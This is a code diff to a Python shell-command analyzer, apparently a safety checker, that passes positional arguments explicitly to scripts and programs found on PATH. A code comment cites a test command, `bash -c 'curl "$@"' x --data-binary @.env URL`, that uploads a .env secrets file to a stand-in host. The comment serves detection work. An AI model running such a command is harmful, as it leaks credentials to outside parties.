@@ -291,9 +291,8 @@ class Analyzer:
                 # is not sh), whoever made it
             prog = canonical_program(posixpath.basename(argv[0]))
             self.r.programs.add(prog)
-            self.__dict__["positional"] = argv[1:]  # rt50: `ls ARGS` running ./bin/ls, `exec curl "$@"`
-            on_path = lookup.resolve_program(self, argv[0], cmd.cwd, depth)
-            self.__dict__.pop("positional", None)
+            # rt50: `ls ARGS` running ./bin/ls, `exec curl "$@"`: the file found on PATH gets the arguments
+            on_path = lookup.resolve_program(self, argv[0], cmd.cwd, depth, args=argv[1:])
             if on_path is not None:  # `ls` after the
                 argv = [*native.as_run(on_path, argv[0]), *argv[1:]]  # run put ./bin on PATH; rt47: a link or copy
                 # there of a system program
@@ -411,7 +410,6 @@ class Analyzer:
     def script(self, path: str, cwd: str | None, depth: int, explicit: bool = False, args: list[str] = (),
                shell: bool = False) -> None:
         """A script a command runs: as a program (``safety.shebang``), or read by a shell (``shell``: ``#!`` no more)."""
-        args = list(args) or self.__dict__.pop("positional", [])  # what a shell, `source` or PATH passes on
         text = scripts.read_script(self, path, cwd, explicit)
         if text is None:
             return
@@ -473,10 +471,8 @@ class Analyzer:
             for code in inv.codes if args else ():  # rt50: `bash -c 'curl "$@"' x --data-binary @.env URL`
                 if (reading := with_arguments(code, args)) is not None:
                     self.line(reading, depth + 1, cmd.cwd)
-            self.__dict__["positional"] = args if inv.script else []
-            scripts.run_code(self, prog, inv, cmd, depth, shell)
+            scripts.run_code(self, prog, inv, cmd, depth, shell, args)
         finally:
-            self.__dict__.pop("positional", None)
             if pushed:
                 self.stdin_feeds.pop()
 
